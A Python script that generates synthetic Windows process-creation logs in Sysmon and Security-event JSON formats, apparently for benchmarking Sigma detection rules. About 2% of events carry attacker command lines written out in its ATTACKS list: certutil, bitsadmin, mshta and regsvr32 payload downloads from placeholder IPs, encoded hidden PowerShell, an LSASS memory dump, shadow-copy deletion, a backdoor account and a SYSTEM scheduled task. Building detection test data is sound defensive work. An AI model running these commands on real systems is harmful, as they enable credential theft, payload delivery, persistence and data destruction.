#!/usr/bin/env python3
"""Deterministic Windows process-creation corpus (JSON lines) for benchmarks.

Writes N process creations as Windows event JSON, the way shippers send them:
Sysmon event 1 and Security event 4688, each either as EVTX converted to JSON
(Event.System.* / Event.EventData.*, as evtx_dump writes it) or as Winlogbeat
(winlog.channel, winlog.event_id, winlog.event_data.*). Images, command lines,
parents, users and hosts vary; about 2% of the events are attacker activity
that SigmaHQ process-creation rules are written for (whoami /all, certutil
downloads, encoded PowerShell, rundll32 and mshta tricks, shadow copy
deletion, LSASS dumps...).

Event time advances by --rate events per second from --start. The same seed
gives the same bytes.

  gen_sysmon.py --count 200000 > sysmon.jsonl
  gen_sysmon.py --count 1000 --shape evtx --seed 7 > evtx.jsonl

Python 3 standard library only.
"""
import argparse
import datetime as dt
import json
import random
import sys
import uuid

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
S32 = "C:\\Windows\\System32\\"
DOMAIN = "CORP"
HOSTS = ["WS%03d.corp.example" % i for i in range(1, 41)] + \
    ["SRV-FILE01.corp.example", "SRV-SQL02.corp.example", "DC01.corp.example"]
USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
         "ivan", "judy", "svc_backup", "svc_sql"]

# (image, original file name, description, command line templates)
BENIGN = [
    (S32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services",
     ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
      "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
      "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc"]),
    (S32 + "conhost.exe", "CONHOST.EXE", "Console Window Host",
     ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"]),
    (S32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor",
     ["C:\\Windows\\system32\\cmd.exe /c \"C:\\Scripts\\logon_{n}.bat\"",
      "cmd.exe /c dir C:\\Users\\{user}\\Documents",
      "cmd.exe /c copy \\\\SRV-FILE01\\share\\report_{n}.xlsx C:\\Users\\{user}\\Desktop"]),
    (S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell",
     ["powershell.exe -NoProfile -File C:\\Scripts\\inventory_{n}.ps1",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" Get-Service | Out-File C:\\Temp\\svc.txt"]),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome",
     ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id={n}",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
     ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\minutes_{n}.docx\""]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE", "Microsoft Outlook",
     ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle"]),
    (S32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks",
     ["taskhostw.exe KEYROAMING", "taskhostw.exe Install $(Arg0)"]),
    (S32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker",
     ["C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"]),
    (S32 + "notepad.exe", "NOTEPAD.EXE", "Notepad",
     ["\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Desktop\\todo_{n}.txt"]),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows",
     ["git.exe fetch --all --prune", "git.exe status --porcelain", "git.exe log -n 20 --oneline"]),
    (S32 + "msiexec.exe", "msiexec.exe", "Windows installer",
     ["C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe /i C:\\Packages\\agent_{n}.msi /qn"]),
    (S32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host",
     ["C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"]),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge",
     ["\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=gpu-process --field-trial-handle={n}"]),
    (S32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host",
     ["\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n} 1"]),
    (S32 + "ipconfig.exe", "ipconfig.exe", "IP Configuration Utility",
     ["ipconfig /all", "ipconfig /flushdns"]),
    (S32 + "reg.exe", "reg.exe", "Registry Console Tool",
     ["reg query HKCU\\Software\\Microsoft\\Office\\16.0\\Common /v Theme"]),
    ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe", "7-Zip Console",
     ["7z.exe a C:\\Backup\\docs_{n}.7z C:\\Users\\{user}\\Documents"]),
]
PARENTS = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
    (S32 + "services.exe", "C:\\Windows\\system32\\services.exe"),
    (S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (S32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe"),
    (S32 + "userinit.exe", "C:\\Windows\\system32\\userinit.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""),
]
ATTACKS = [
    (S32 + "whoami.exe", "whoami.exe", "whoami - displays logged on user information", "whoami /all", S32 + "cmd.exe"),
    (S32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe",
     "certutil.exe -urlcache -split -f http://198.51.100.{n}/update.exe C:\\Users\\Public\\update.exe", S32 + "cmd.exe"),
    (S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    (S32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\l.dmp full", S32 + "cmd.exe"),
    (S32 + "vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft Volume Shadow Copy Service",
     "vssadmin.exe delete shadows /all /quiet", S32 + "cmd.exe"),
    (S32 + "mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host",
     "mshta.exe http://203.0.113.{n}/a.hta", S32 + "svchost.exe"),
    (S32 + "net.exe", "net.exe", "Net Command", "net user backdoor P@ssw0rd{n} /add", S32 + "cmd.exe"),
    (S32 + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool",
     "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe /ru SYSTEM", S32 + "cmd.exe"),
    (S32 + "bitsadmin.exe", "bitsadmin.exe", "BITS administration utility",
     "bitsadmin /transfer job{n} /download /priority high http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe", S32 + "cmd.exe"),
    (S32 + "regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server",
     "regsvr32.exe /s /n /u /i:http://203.0.113.9/x.sct scrobj.dll", S32 + "cmd.exe"),
]


def guid(rng):
    return "{" + str(uuid.UUID(int=rng.getrandbits(128))) + "}"


def hexid(rng):
    return "0x%x" % rng.randint(0x100, 0xffff)


def hashes(rng):
    return "SHA256=%064X,IMPHASH=%032X" % (rng.getrandbits(256), rng.getrandbits(128))


def pick_process(rng, n):
    if rng.random() < 0.02:
        img, ofn, desc, cmd, parent = rng.choice(ATTACKS)
        pcmd = "\"%s\"" % parent
        return img, ofn, desc, cmd.replace("{n}", str(n % 250 + 1)), parent, pcmd, "High"
    img, ofn, desc, cmds = rng.choice(BENIGN)
    user = rng.choice(USERS)
    cmd = rng.choice(cmds).replace("{n}", str(rng.randint(1, 9999))).replace("{user}", user)
    parent, pcmd = rng.choice(PARENTS)
    return img, ofn, desc, cmd, parent, pcmd, rng.choice(["Medium", "Medium", "High", "System"])


def sysmon_data(rng, t, proc, user):
    img, ofn, desc, cmd, parent, pcmd, integ = proc
    return {
        "RuleName": "-", "UtcTime": t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000),
        "ProcessGuid": guid(rng), "ProcessId": rng.randint(300, 30000), "Image": img,
        "FileVersion": "10.0.19041.%d (WinBuild.160101.0800)" % rng.randint(1, 4000),
        "Description": desc, "Product": "Microsoft\u00ae Windows\u00ae Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": ofn, "CommandLine": cmd,
        "CurrentDirectory": "C:\\Users\\%s\\" % user, "User": "%s\\%s" % (DOMAIN, user),
        "LogonGuid": guid(rng), "LogonId": hexid(rng), "TerminalSessionId": rng.randint(0, 3),
        "IntegrityLevel": integ, "Hashes": hashes(rng), "ParentProcessGuid": guid(rng),
        "ParentProcessId": rng.randint(300, 30000), "ParentImage": parent,
        "ParentCommandLine": pcmd, "ParentUser": "%s\\%s" % (DOMAIN, user),
    }


def security_data(rng, proc, user):
    img, ofn, desc, cmd, parent, pcmd, integ = proc
    return {
        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-%d" % (1000 + USERS.index(user)),
        "SubjectUserName": user, "SubjectDomainName": DOMAIN, "SubjectLogonId": hexid(rng),
        "NewProcessId": hexid(rng), "NewProcessName": img,
        "TokenElevationType": rng.choice(["%%1936", "%%1937", "%%1938"]),
        "ProcessId": hexid(rng), "CommandLine": cmd, "TargetUserSid": "S-1-0-0",
        "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
        "ParentProcessName": parent,
        "MandatoryLabel": {"Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}[integ],
    }


def evtx(t, channel, provider, pguid, eid, data, host, rec, rng, task):
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider, "Guid": pguid}},
            "EventID": eid, "Version": 5 if eid == 1 else 2, "Level": 4 if eid == 1 else 0,
            "Task": task, "Opcode": 0,
            "Keywords": "0x8000000000000000" if eid == 1 else "0x8020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": rec, "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": rng.randint(4, 4000), "ThreadID": rng.randint(4, 9000)}},
            "Channel": channel, "Computer": host,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}} if eid == 1 else None},
        "EventData": data}}


def winlogbeat(t, channel, provider, eid, data, host, rec, rng, task, message):
    ts = t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)
    return {
        "@timestamp": ts,
        "agent": {"type": "winlogbeat", "version": "8.12.2", "name": host.split(".")[0].lower()},
        "ecs": {"version": "8.0.0"},
        "host": {"name": host.lower()},
        "event": {"code": str(eid), "provider": provider, "kind": "event", "created": ts},
        "log": {"level": "information"},
        "message": message,
        "winlog": {"channel": channel, "event_id": str(eid), "provider_name": provider,
                   "computer_name": host, "record_id": str(rec), "task": task,
                   "process": {"pid": rng.randint(4, 4000), "thread": {"id": rng.randint(4, 9000)}},
                   "api": "wineventlog", "event_data": data},
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--rate", type=float, default=500.0, help="events per second of event time")
    ap.add_argument("--start", default="2026-03-02T08:00:00")
    ap.add_argument("--shape", choices=["mixed", "evtx", "winlogbeat"], default="mixed")
    a = ap.parse_args()
    rng = random.Random(a.seed)
    t = dt.datetime.fromisoformat(a.start)
    step = dt.timedelta(seconds=1.0 / a.rate)
    out = sys.stdout
    rec = 100000
    for n in range(a.count):
        t += step
        rec += 1
        host = rng.choice(HOSTS)
        user = rng.choice(USERS)
        proc = pick_process(rng, n)
        shape = a.shape if a.shape != "mixed" else ("evtx" if rng.random() < 0.5 else "winlogbeat")
        if rng.random() < 0.6:
            data = sysmon_data(rng, t, proc, user)
            if shape == "evtx":
                ev = evtx(t, SYSMON, "Microsoft-Windows-Sysmon", SYSMON_GUID, 1, data, host, rec, rng, 1)
            else:
                ev = winlogbeat(t, SYSMON, "Microsoft-Windows-Sysmon", 1, data, host, rec, rng,
                                "Process Create (rule: ProcessCreate)", "Process Create:")
        else:
            data = security_data(rng, proc, user)
            if shape == "evtx":
                ev = evtx(t, "Security", "Microsoft-Windows-Security-Auditing", SECURITY_GUID, 4688,
                          data, host, rec, rng, 13312)
            else:
                ev = winlogbeat(t, "Security", "Microsoft-Windows-Security-Auditing", 4688, data, host,
                                rec, rng, "Process Creation", "A new process has been created.")
        out.write(json.dumps(ev, ensure_ascii=False, separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
